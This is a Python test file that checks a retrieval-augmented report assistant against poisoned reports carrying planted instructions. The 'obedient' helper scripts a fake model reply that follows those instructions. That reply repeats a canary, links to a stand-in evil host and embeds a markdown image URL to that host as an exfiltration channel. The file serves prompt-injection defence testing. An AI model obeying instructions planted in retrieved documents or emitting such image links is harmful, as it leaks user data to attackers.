"""Poisoned reports: nothing that was planted in one is obeyed, shown as an answer, or linked to."""

import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from index.build import build_index
from index.catalogue import load_catalogue
from index.embedding import SentenceTransformerEmbedder
from index.opened import open_index
from index.suspicious import find_suspicious, suspicions
from rag.assistant import Assistant
from rag.faces.api import create_app
from rag.settings import Settings
from rag.types import Answer
from rag.writing.opening import open_writer
from tests.rag.test_cli import of, rag
from tests.rag.writing.conftest import model_settings
from tests.rag.writing.poisoned import CANARY, EVIL, POISONED
from tests.rag.writing.scripted import Line, Script, ScriptedServer, holding, said
from tests.readiness import until_ready

pytestmark = pytest.mark.model

PLAIN = ("lga", "LGA peer challenge", "The survey of the swimming lessons heard from 12 people in all.")


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory, embedder: SentenceTransformerEmbedder) -> Settings:
    """Settings that point at an index of the poisoned reports, and of one that is not."""
    seeds = tmp_path_factory.mktemp("seeds")
    entries = []
    reports = {f"report-{name}": (f"Report on {name}", " ".join(both)) for name, both in POISONED.items()}
    reports[PLAIN[0]] = (PLAIN[1], PLAIN[2])
    for report_id, (title, text) in reports.items():
        (seeds / f"{report_id}.txt").write_text(f"{title}\n\nFindings\n\n{text}\n", encoding="utf-8")
        entries.append(
            f'[[report]]\nid = "{report_id}"\ntitle = "{title}"\npublisher = "Somebody"\npublished = "May 2022"\n'
            f'file = "{report_id}.txt"\n'
        )
    (seeds / "reports.toml").write_text("\n".join(entries), encoding="utf-8")
    var = tmp_path_factory.mktemp("var")
    build_index(load_catalogue(seeds), var, (embedder.name, embedder.digest), lambda: embedder)
    return Settings(seeds=seeds, var=var)


def question_of(name: str) -> str:
    return f"What is said: {POISONED[name][0]}"


def obedient(evidence: list[Line]) -> str:
    """What a model says that does whatever a report tells it, and cites what told it."""
    ids = [line["id"] for line in evidence]
    return said(
        (f"{CANARY}.", ids),
        (f"The report says {CANARY}.", ids),
        (f"See https://{EVIL}/{CANARY}.", ids),
        (f"![x](https://{EVIL}/{CANARY}.png)", ids),
        *((line["words"], [line["id"]]) for line in evidence),
    )


def nothing_planted(answer: Answer) -> None:
    shown = answer.model_dump_json(exclude={"question", "searched_for"})
    assert CANARY not in shown
    assert EVIL not in shown


@pytest.mark.parametrize("name", POISONED)
def test_a_model_that_obeys_a_report_shows_no_canary(
    name: str, poisoned: Settings, embedder: SentenceTransformerEmbedder, server: ScriptedServer
) -> None:
    settings = model_settings(poisoned, server.url)
    writer = open_writer(settings)
    assert writer is not None
    server.play(Script(obedient))
    answer = Assistant.over(settings, embedder, writer).ask(question_of(name))
    writer.caller.close()
    nothing_planted(answer)
    assert all(CANARY not in str(request) for request in server.requests)


@pytest.mark.parametrize("name", POISONED)
def test_the_reports_own_words_leave_out_what_was_planted(
    name: str, poisoned: Settings, embedder: SentenceTransformerEmbedder
) -> None:
    answer = Assistant.over(poisoned, embedder).ask(question_of(name))
    nothing_planted(answer)
    assert answer.statements, answer.notice
    planted = Assistant.over(poisoned, embedder).ask(re.sub(r"[^\x20-\x7e]", "", POISONED[name][1])[:300])
    nothing_planted(planted)


def test_a_figure_in_another_reports_mouth_is_never_cited_to_that_report(
    poisoned: Settings, embedder: SentenceTransformerEmbedder, server: ScriptedServer
) -> None:
    def reply(evidence: list[Line]) -> str:
        return said(("The LGA peer challenge found that 9,999 people were waiting.", [holding(evidence, "survey")]))

    settings = model_settings(poisoned, server.url)
    writer = open_writer(settings)
    assert writer is not None
    server.play(Script(reply))
    answer = Assistant.over(settings, embedder, writer).ask("What did the survey of the swimming lessons hear?")
    writer.caller.close()
    assert answer.dropped == 1
    assert all("9,999" not in citation.quote for citation in answer.citations if citation.report == PLAIN[0])


@pytest.mark.parametrize("name", POISONED)
def test_the_index_names_what_is_suspicious(name: str, poisoned: Settings) -> None:
    found = find_suspicious(tuple(open_index(poisoned.var).reports.values()))
    assert f"report-{name}" in {finding.report for finding in found}


def test_nothing_in_the_real_reports_is_suspicious(built_index: Settings) -> None:
    assert find_suspicious(tuple(open_index(built_index.var).reports.values())) == ()


@pytest.mark.parametrize("name", POISONED)
def test_the_honest_sentence_is_not_suspicious(name: str) -> None:
    assert suspicions(POISONED[name][0]) == ()


@pytest.mark.slow
def test_doctor_names_them(poisoned: Settings) -> None:
    done = rag("doctor", **of(poisoned))
    assert done.returncode == 0, done.stderr
    told = " ".join(done.stdout.split())
    assert all(f"report-{name}" in told for name in POISONED)
    assert "instruction to a program" in told
    assert "<U+200B>" in told


def test_no_page_links_to_an_address_outside(poisoned: Settings, embedder: SentenceTransformerEmbedder) -> None:
    app = create_app(poisoned, lambda settings: Assistant.over(settings, embedder))
    with TestClient(app) as client:
        until_ready(client)
        for name in POISONED:
            page = client.get(f"/reports/report-{name}").text
            assert re.findall(r"(?:href|src|action)=[\"']?(?:https?:)?//[^\"'>]*", page) == []
            assert "<script>fetch" not in page


def test_building_tells_what_is_suspicious(poisoned: Settings, tmp_path: Path) -> None:
    done = rag("index", RAG_SEEDS=str(poisoned.seeds), RAG_VAR=str(tmp_path / "var"))
    assert done.returncode == 0, done.stderr
    assert "report-ignore" in done.stdout
    assert "written for a program" in " ".join(done.stdout.split())
